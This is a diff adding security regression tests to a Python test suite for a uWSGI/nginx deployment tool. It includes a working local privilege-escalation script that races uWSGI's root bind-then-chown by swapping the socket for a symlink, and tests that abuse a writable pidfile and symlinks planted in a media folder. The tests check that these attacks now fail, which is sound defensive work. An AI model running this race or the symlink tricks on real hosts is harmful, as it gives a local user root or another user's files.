@@ -9,6 +9,7 @@ deployed by an unprivileged SSH user through ``sudo -n`` with exactly the README
 import json
 import re
 import shlex
+import time
 
 import pytest
 
@@ -198,3 +199,219 @@ def test_inventory_refuses_bad_act_users(stage):
 
 def test_readme_gives_the_sudo_rule_this_test_installs():
     assert SUDO_RULE.strip() in (REPO / "README.md").read_text()
+
+
+# --- what an act's user can turn against root, nginx or other users (issue 12) --------------------
+
+CANARY = "/etc/backstage-canary"
+# Run on the host as the act's user: the attack on uWSGI's bind-then-chown of the act's socket.
+SWAP_SOCKET = r'''
+import json, os, stat, sys, time
+
+sock, target, procname, seconds, period = sys.argv[1:6]
+deadline, period = time.monotonic() + float(seconds), float(period)
+ready = sock + ".ready"
+report = {"kills": 0, "swaps": 0, "errors": []}
+
+
+def note(error):
+    if str(error) not in report["errors"]:
+        report["errors"].append(str(error))
+
+
+def kill_masters():
+    """SIGKILL the act's own uWSGI master: the Emperor starts the vassal again, which binds
+    its socket again, as root."""
+    for pid in filter(str.isdigit, os.listdir("/proc")):
+        try:
+            with open(f"/proc/{pid}/cmdline", "rb") as f:
+                cmdline = f.read()
+            if cmdline.startswith(procname.encode()) and b"master" in cmdline:
+                os.kill(int(pid), 9)
+                report["kills"] += 1
+        except OSError:
+            pass
+
+
+next_kill = 0.0
+while time.monotonic() < deadline and os.stat(target).st_uid != os.getuid():
+    if time.monotonic() >= next_kill:
+        kill_masters()
+        next_kill = time.monotonic() + period
+    try:
+        if not os.path.islink(ready):
+            os.symlink(target, ready)
+        st = os.lstat(sock)
+        if stat.S_ISSOCK(st.st_mode) and st.st_uid == 0:  # bound, not chowned yet
+            os.rename(ready, sock)
+            report["swaps"] += 1
+    except OSError as exc:
+        note(exc)
+    time.sleep(0.002)
+report["owned"] = os.stat(target).st_uid == os.getuid()
+print(json.dumps(report))
+'''
+
+
+def emperor_pids(stage, root: str = ROOT) -> list[str]:
+    ini = f"{root}/stage/emperor.ini".replace(".", r"\.")
+    return on_host(stage, f"pgrep -u 0 -f -- ' --ini {ini}$'", check=False).stdout.split()
+
+
+def serving(stage, timeout: float = 60) -> None:
+    """Wait until the act serves its page through nginx again."""
+    deadline = time.monotonic() + timeout
+    while stage.page("/")[0] != 200:
+        assert time.monotonic() < deadline, "the act did not serve again"
+        time.sleep(0.5)
+
+
+def test_act_cannot_get_root_to_chown_a_file_through_its_socket_folder(stage):
+    """Finding 1: root via the socket bind/chown race.
+
+    uWSGI binds the vassal's socket as root, then chmods and chowns it by path, following
+    links. When the act's user could write the socket's folder, it swapped the fresh
+    root-owned socket for a link to a root file, and killed its own uWSGI master so that the
+    Emperor bound again at will. The window is microseconds wide: unassisted, this attack
+    (looping as fast as Python goes, a kill every 1.5 s) got a root file in 3 of 5 runs of
+    60 s on the old code, after 14 to 47 s. Here root (the test) widens the window with
+    strace, holding the vassal 1.5 s before its chmod, so polling every 2 ms is enough: on the
+    old code the act owned the file after its first kill, in about 3 s. Now the folder is
+    root's: the attack runs 15 s and the file stays root's.
+    """
+    release = live_release(stage)
+    sock = f"{ROOT}/run/storefront/{release}.sock"
+    stage.fleet.run("h1", f"install -m 600 /dev/null {CANARY} && cat > /tmp/swap.py",
+                    input=SWAP_SOCKET)
+    emperor = emperor_pids(stage)[0]
+    attack = shlex.join(["setpriv", "--reuid", USER, "--regid", USER, "--init-groups", "--",
+                         "python3", "/tmp/swap.py", sock, CANARY,
+                         f"[lp/storefront@{release}]", "15", "5"])
+    done = on_host(stage, (
+        f"strace -q -f -o /dev/null -p {emperor} -e trace=chmod,fchmodat "
+        f"-e inject=chmod,fchmodat:delay_enter=1500000 & tracer=$!; sleep 1; {attack}; "
+        "kill $tracer; wait"))
+    report = json.loads(done.stdout.splitlines()[-1])
+    assert report["kills"] >= 1, report
+    assert on_host(stage, f"stat -c '%U %G %a' {CANARY}").stdout.split() == ["root", "root", "600"], \
+        report
+    assert not report["owned"] and report["swaps"] == 0, report
+    # The Emperor bound the socket again, in root's folder, and the act serves again.
+    serving(stage)
+    assert on_host(stage, f"stat -c '%U %G %a' {ROOT}/run/storefront").stdout.split() == [
+        "root", "www-data", "750"]
+    assert on_host(stage, f"stat -c '%A %U %G' {sock}").stdout.split() == [
+        "srw-rw----", USER, "www-data"]
+
+
+def test_emperor_is_never_found_through_a_pidfile_an_act_or_a_crash_left(stage):
+    """Finding 2: the Emperor's pidfile was 0666, and every deploy signalled its pid as root.
+
+    The act's user writes nginx's pid into it: on the old code the next deploy sent nginx
+    SIGWINCH (its workers stopped, every request timed out, the deploy failed its check
+    through nginx). Then a dead pid in it (a crash, say): on the old code setup-stage started
+    a second Emperor on the same vassal folder. Now the pidfile is root's 0644, the Emperor's
+    stats socket takes no connection but root's, and Backstage finds the Emperor in the
+    process table by its command line.
+    """
+    pidfile = f"{ROOT}/run/emperor.pid"
+    nginx = on_host(stage, "cat /run/nginx.pid").stdout.strip()
+    workers = on_host(stage, f"pgrep -P {nginx}").stdout.split()
+    as_user(stage, USER, f"echo {nginx} > {pidfile}")
+    with (stage.source / "greetings" / "views.py").open("a") as f:
+        f.write("\n# a change, so the deploy makes a new release\n")
+    before = live_release(stage)
+    stage.cli("deploy-act", "storefront")
+    assert live_release(stage) != before
+    assert on_host(stage, f"pgrep -P {nginx}").stdout.split() == workers
+    assert stage.page("/")[0] == 200
+
+    on_host(stage, f"echo 4194000 > {pidfile}")  # no such process
+    stage.cli("setup-stage")
+    assert len(emperor_pids(stage)) == 1
+    assert on_host(stage, f"stat -c '%U %a' {pidfile}").stdout.split() in (["root", "644"], [])
+    assert on_host(stage, f"stat -c '%A %U' {ROOT}/run/emperor-stats.sock").stdout.split() == [
+        "srwxr-xr-x", "root"]
+
+
+def test_nginx_follows_no_link_an_act_plants_in_media(stage):
+    """Finding 3: the act's user links, in its media folder, to another production's private
+    upload (readable by nginx's group) and to nginx's error log; on the old code nginx
+    served both. Now nginx follows no link under the media and static folders."""
+    peer = "/srv/backstage/two/acts/storefront/media/private.txt"
+    assert as_user(stage, OTHER_USER, f"echo two-private > {peer}").returncode == 0
+    media = f"{ROOT}/acts/storefront/media"
+    planted = as_user(stage, USER, f"ln -sfn {peer} {media}/peer.txt && "
+                                   f"ln -sfn /var/log/nginx/error.log {media}/log.txt && "
+                                   f"echo mine > {media}/mine.txt")
+    assert planted.returncode == 0, planted.stderr
+    for name in ("peer.txt", "log.txt"):
+        status, body = stage.page(f"/media/{name}")
+        assert status in (403, 404) and "two-private" not in body, (name, status, body)
+    assert stage.page("/media/mine.txt") == (200, "mine\n")
+
+
+def closed_to_others() -> list[str]:
+    """The paths the README's least-privilege table gives nothing to other local users."""
+    text = (REPO / "README.md").read_text()
+    table = text[text.index("| path | root |"):].split("\n\n", 1)[0]
+    return re.findall(r"^ *\| `([^`]+)`[^|]*\|.*\| — \|$", table, re.MULTILINE)
+
+
+def test_another_local_user_reads_nothing_of_the_production(stage):
+    """Finding 4: any local user could read the history and access logs, connect to the
+    Emperor's stats socket, read the acts' code and list an act's sockets' folder. The
+    README's least-privilege table says who may read what; this tries each of its rows as a
+    local user who is none of those (and as an act of another production)."""
+    release = f"{ROOT}/acts/storefront/releases/{live_release(stage)}"
+    connect = "python3 -c 'import socket, sys; socket.socket(socket.AF_UNIX).connect(sys.argv[1])'"
+    attempts = {
+        "stage/": f"ls {ROOT}/stage",
+        "wheelhouse/": f"ls {ROOT}/wheelhouse",
+        "venues/": f"ls {ROOT}/venues",
+        "trees/": f"ls {ROOT}/trees",
+        "acts/<act>/releases/<id>/": f"cat {release}/manage.py || ls {release}/storefront",
+        "acts/<act>/env/env-<id>": f"cat {ROOT}/acts/storefront/env/env-{live_release(stage)}",
+        "acts/<act>/shared/": f"ls {ROOT}/acts/storefront/shared",
+        "acts/<act>/media/": f"ls {ROOT}/acts/storefront/media",
+        "data/": f"ls {ROOT}/data",
+        "run/<act>/": f"ls {ROOT}/run/storefront",
+        "run/<act>.stats/": f"ls {ROOT}/run/storefront.stats",
+        "run/emperor-stats.sock": f"{connect} {ROOT}/run/emperor-stats.sock",
+        "vassals/": f"ls {ROOT}/vassals",
+        "log/": f"cat {ROOT}/log/nginx-shop.access.log || ls {ROOT}/log",
+        "state/": f"cat {ROOT}/state/history.jsonl",
+    }
+    assert sorted(closed_to_others()) == sorted(attempts)
+    on_host(stage, "id -u stranger >/dev/null 2>&1 || useradd --no-create-home stranger")
+    for who in ("stranger", OTHER_USER):
+        for row, command in attempts.items():
+            attempt = as_user(stage, who, command)
+            assert attempt.returncode != 0 and "denied" in attempt.stderr, (who, row, attempt)
+    # The act still reads its code; root still reads everything.
+    assert as_user(stage, USER, f"cat {release}/manage.py >/dev/null").returncode == 0
+    assert on_host(stage, f"cat {ROOT}/state/history.jsonl").stdout
+
+
+def test_a_deploy_removes_secrets_a_deploy_cut_short_left(stage):
+    """Finding 5: an upload killed mid-way left ``env/env-<id>.backstage-new`` (its secrets)
+    for ever, and an env file whose release was never made outlived it. The next deploy
+    (never a no-op after a deploy cut short: the live release is not the one it wanted)
+    removes them, and the trees and releases left half made."""
+    env_dir = f"{ROOT}/acts/storefront/env"
+    leftovers = [f"{env_dir}/env-20200101T000000000Z-deadbeef.backstage-new",
+                 f"{env_dir}/env-20200101T000000000Z-deadbeef",
+                 f"{ROOT}/acts/storefront/releases/.incoming-20200101T000000000Z-deadbeef",
+                 f"{ROOT}/trees/.incoming-{'d' * 64}"]
+    on_host(stage, "umask 077; " + "; ".join(
+        [f"echo DJANGO_SECRET_KEY=left > {path}" for path in leftovers[:2]]
+        + [f"mkdir -p {path}" for path in leftovers[2:]]))
+    with (stage.source / "greetings" / "views.py").open("a") as f:
+        f.write("\n# another change\n")
+    stage.cli("deploy-act", "storefront")
+    left = on_host(stage, shlex.join(["ls", "-d", *leftovers]), check=False)
+    assert left.stdout == "", left.stdout
+    releases = on_host(stage, f"ls {ROOT}/acts/storefront/releases").stdout.split()
+    env_files = on_host(stage, f"ls {env_dir}").stdout.split()
+    assert f"env-{live_release(stage)}" in env_files
+    assert all(name.removeprefix("env-") in releases for name in env_files), env_files
